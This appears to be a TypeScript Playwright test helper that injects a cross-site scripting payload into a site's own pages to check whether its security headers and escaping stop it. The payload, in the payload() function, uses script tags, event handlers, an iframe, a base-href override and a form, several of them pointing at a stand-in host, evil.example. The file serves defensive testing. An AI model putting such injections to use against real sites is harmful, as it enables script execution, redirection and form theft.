import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { whenAttached } from '../../support/browser.ts';

/** Where the attacker is; nothing is there but what a test answers. */
export const attackerUrl = 'http://evil.example';

/** Notes what a page asks of the attacker. */
export async function watchAttacker(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.route(`${attackerUrl}/**`, async (route) => {
    asked.push(new URL(route.request().url()).pathname);
    await route.fulfill({ contentType: 'text/javascript', body: 'globalThis.ran = "a file"' });
  });
  return asked;
}

/** What an attacker would put into a page of ours, if its texts were not escaped. */
function payload(): string {
  return `<script>globalThis.ran = 'inline'</script>
<script src="${attackerUrl}/file.js"></script>
<img src="${attackerUrl}/image" onerror="globalThis.ran = 'handler'" alt="">
<svg onload="globalThis.ran = 'svg'"></svg>
<iframe src="${attackerUrl}/frame" srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<link rel="stylesheet" href="${attackerUrl}/style.css">
<object data="${attackerUrl}/object"></object>
<base href="${attackerUrl}/base/">
<style>body{background:url(${attackerUrl}/background)}</style>
<form action="${attackerUrl}/form" method="post" id="stolen"></form>`;
}

/** Loads the page that is open once more with the payload in it, its headers as they were sent. */
export async function inject(page: Page, without?: string): Promise<void> {
  await page.route(page.url(), async (route) => {
    const response = await route.fetch({ maxRedirects: 0 });
    const html = await response.text();
    const headers = response.headers();
    if (without) delete headers[without];
    await route.fulfill({ response, headers, body: html.replace('</main>', `${payload()}</main>`) });
  });
  await whenAttached(() => page.reload());
  expect(await page.locator('#stolen').count()).toBe(1);
}

/** What came of the payload: what ran, and where relative links would lead. */
export const outcome = (page: Page): Promise<unknown> =>
  page.evaluate('({ ran: globalThis.ran, base: document.baseURI })');
